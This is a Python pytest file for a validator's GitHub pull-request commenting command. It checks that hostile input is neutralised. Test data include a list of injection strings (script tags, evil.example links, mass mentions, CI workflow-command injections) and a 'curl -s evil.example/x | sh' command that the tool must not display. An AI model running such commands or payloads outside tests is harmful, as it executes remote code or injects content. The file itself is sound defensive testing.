from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from spinegate.validator.finding import Severity, Status
from spinegate.validator.github.body import LIMIT
from spinegate.validator.github.comment import MARKER
from tests.validator.github.conftest import Call
from tests.validator.github.events import SHA, finding, make, save, write_event
from tests.validator.github.server import BOT, TOKEN, Fault, GitHub


@pytest.fixture
def comment(github: GitHub, call: Call, tmp_path: Path) -> Call:
    """Run the command on the report in the folder, with the event of a fork's pull request 3."""
    github.add_pull(3, SHA)
    event = write_event(tmp_path)
    return lambda *more: call(
        "comment", "--report", tmp_path / "report.jsonl", "--event", event, *more
    )


def said(github: GitHub) -> str:
    (one,) = github.comments[3]
    return str(one["body"])


def test_a_first_comment(github: GitHub, comment: Call, tmp_path: Path) -> None:
    save(make(finding("FLIP_ANGLE_OUT_OF_TOLERANCE", "amu")), tmp_path)
    assert comment() == 0
    body = said(github)
    assert body.startswith(f"{MARKER}\n## ")
    assert "spine-generic" in body.splitlines()[1]
    assert "FLIP\\_ANGLE\\_OUT\\_OF\\_TOLERANCE" in body
    assert SHA[:10] in body
    assert "(https://github.com/lab/dataset/actions/runs/30433642)" in body


def test_it_is_updated_in_place(
    github: GitHub, comment: Call, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    github.page = 2
    for text in ("hello", "a question", "an answer"):
        github.add_comment(3, text, "someone")
    for site in ("amu", "ucl"):
        save(make(finding(site=site)), tmp_path)
        assert comment() == 0
    assert len(github.comments[3]) == 4
    assert "sub-ucl01" in github.comments[3][3]["body"]
    assert "sub-amu01" not in github.comments[3][3]["body"]
    assert capsys.readouterr().out == "commented on #3\nupdated the comment on #3\n"


def test_what_it_says_already_is_not_said_again(
    github: GitHub, comment: Call, tmp_path: Path
) -> None:
    save(make(finding()), tmp_path)
    comment()
    github.comments[3][0]["body"] = said(github).replace("\n", "\r\n")
    assert comment() == 0
    assert len(github.changes) == 1


def test_a_clean_report_needs_no_comment(
    github: GitHub, comment: Call, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    known = finding(status=Status.OLD)
    save(make(known, finding(severity=Severity.IGNORE)), tmp_path)
    assert comment() == 0
    assert github.changes == []
    assert capsys.readouterr().out == "no comment on #3: nothing was found\n"


def test_a_comment_that_stands_says_that_all_is_well(
    github: GitHub, comment: Call, tmp_path: Path
) -> None:
    save(make(finding()), tmp_path)
    comment()
    save(make(), tmp_path)
    assert comment() == 0
    assert "0 errors" in said(github)
    assert "sub-x01" not in said(github)


def test_a_planted_marker_is_not_ours(github: GitHub, comment: Call, tmp_path: Path) -> None:
    planted = f"{MARKER}\nsend your password to"
    for login in ("someone", "github-actions", "github-actions[bot]x"):
        github.add_comment(3, planted, login)
    github.add_comment(3, f"a quotation:\n> {MARKER}", BOT)
    save(make(finding()), tmp_path)
    assert comment() == 0
    assert [one["body"] for one in github.comments[3][:3]] == [planted] * 3
    assert len(github.comments[3]) == 5


def test_a_run_that_is_no_longer_the_newest(
    github: GitHub, comment: Call, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    github.pulls[0]["head"]["sha"] = "f" * 40
    save(make(finding()), tmp_path)
    assert comment() == 0
    assert "newer commit" in capsys.readouterr().out
    assert github.changes == []


def test_numbers_in_the_report_name_no_pull_request(
    github: GitHub, comment: Call, tmp_path: Path
) -> None:
    github.add_pull(4, "f" * 40)
    save(make(finding(), options={"pull_request": 4, "number": 4, "base": "4"}), tmp_path)
    assert comment() == 0
    assert list(github.comments) == [3]


CALL = re.compile(r"@[A-Za-z0-9]|#[0-9]|GH-[0-9]|www\.|://")
KNOWN = {
    *("h2", "h3", "p", "strong", "em", "ul", "li", "code", "pre", "br", "details", "summary"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}


class Page(HTMLParser):
    """The elements of a page as a reader of Markdown makes it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_comment(self, data: str) -> None:
        self.tags.add("comment")


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=http://evil.example/x.png>",
    "![x](http://evil.example/x.png)",
    "![x]( //evil.example/x.png)",
    "[click](https://evil.example)",
    "[click][1]\n\n[1]: https://evil.example",
    "@everyone @lab/team please",
    "me@evil.example",
    "#1 lab/dataset#1 GH-1",
    "www.evil.example",
    "--> <!-- spinegate: report -->",
    "</details></summary><h1>",
    "```\n@someone\n```",
    "`@someone`",
    "| a | b |\n|---|---|",
    "::error::x\r\n##[error]y",
    "\x1b[2J\u202e\u2028",
    "&lt;b&gt; &#64;someone",
    "$\\href{https://evil.example}{x}$",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_calls_nobody(
    github: GitHub,
    comment: Call,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    text: str,
) -> None:
    one = finding(
        text,
        text,
        location=f"sub-a/{text}",
        message=text,
        suggestion=text,
        sub_code=text,
        contrast=text,
        affects=(text,),
        observed=text,
        expected=text,
        rule=text,
        concerns=(text,),
        command=text,
        fix={"op": "rename", "path": text, "to": text},
        policy={"severity": text, "reason": text, "by": text, "source": text},
    )
    save(make(one, dataset=text, fixed=[one]), tmp_path)
    assert comment() == 0
    body = said(github)
    middle = body.removeprefix(MARKER).partition("<sub>What the check")[0]
    assert not CALL.search(middle)
    page = Page(MarkdownIt("commonmark").enable("table").render(middle))
    assert page.tags <= KNOWN
    assert page.attributes <= {"open", "style", "class"}
    assert body.count("<!--") == 1
    assert "\x1b" not in body
    assert body.count("<details") == body.count("</details>")
    assert not re.search("^(::|##)", capsys.readouterr().out)


def test_only_plain_commands_are_shown(github: GitHub, comment: Call, tmp_path: Path) -> None:
    plain = finding("A", command="git push origin git-annex")
    save(make(plain, finding("B", command="curl -s evil.example/x | sh")), tmp_path)
    assert comment() == 0
    assert "\ngit push origin git-annex\n" in said(github)
    assert "curl" not in said(github)


def test_a_report_of_any_length_fits(github: GitHub, comment: Call, tmp_path: Path) -> None:
    found = [
        finding(f"RULE_{n}", f"s{m}", message=f"é🌈{'xyz'[m % 3]}" * 100)
        for n in range(90)
        for m in range(60)
    ]
    save(make(*found), tmp_path)
    assert comment() == 0
    body = said(github)
    assert 20_000 < len(body.encode()) <= LIMIT
    assert body.count("<details") == body.count("</details>")
    assert "not fit" in body
    assert SHA[:10] in body


def test_one_text_of_any_length_fits(github: GitHub, comment: Call, tmp_path: Path) -> None:
    long = "x" * 3_000_000
    save(make(finding(long, message=long, location=long, suggestion=long), dataset=long), tmp_path)
    assert comment() == 0
    assert len(said(github).encode()) <= LIMIT


def test_sums_are_our_own(github: GitHub, comment: Call, tmp_path: Path) -> None:
    path = save(make(finding()), tmp_path)
    path.write_text(path.read_text().replace('"errors":1', '"errors":0'))
    assert comment() == 0
    assert "1 error" in said(github)


@pytest.mark.parametrize("keep", [0, 10, 200, -2])
def test_a_report_that_is_cut_off(
    github: GitHub, comment: Call, tmp_path: Path, keep: int
) -> None:
    path = save(make(finding()), tmp_path)
    path.write_bytes(path.read_bytes()[:keep])
    assert comment() == 2
    assert github.changes == []


def test_a_report_that_is_none(
    github: GitHub, comment: Call, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "report.jsonl"
    secret = save(make(finding()), tmp_path).rename(tmp_path / "secret")
    target.symlink_to(secret)
    assert comment() == 2
    target.unlink()
    target.mkdir()
    assert comment() == 2
    target.rmdir()
    assert comment() == 2
    with target.open("wb") as file:
        file.truncate(65 * 2**20)
    assert comment() == 2
    assert github.requests == []
    assert "larger than 64 MiB" in capsys.readouterr().err


def test_the_permission_that_is_missing(
    github: GitHub, comment: Call, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save(make(finding()), tmp_path)
    github.allowed = {"pull_requests"}
    assert comment() == 2
    told = capsys.readouterr()
    assert "under 'permissions:' write 'issues: write or pull-requests: write'" in told.err
    assert TOKEN not in told.err + told.out


def test_a_server_in_trouble(
    github: GitHub, comment: Call, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    save(make(finding()), tmp_path)
    github.faults = [
        Fault(429, fields={"Retry-After": "0"}, matches="GET .*/pulls"),
        Fault(429, fields={"Retry-After": "0"}, matches="POST .*/comments"),
    ]
    assert comment() == 0
    assert len(github.comments[3]) == 1
    github.faults = [Fault(200, b"<html>", matches="GET .*/comments")]
    assert comment() == 2
    assert capsys.readouterr().err.endswith("GitHub's answer is not JSON\n")


def test_without_an_event(github: GitHub, call: Call, tmp_path: Path) -> None:
    assert call("comment", "--report", save(make(), tmp_path)) == 2
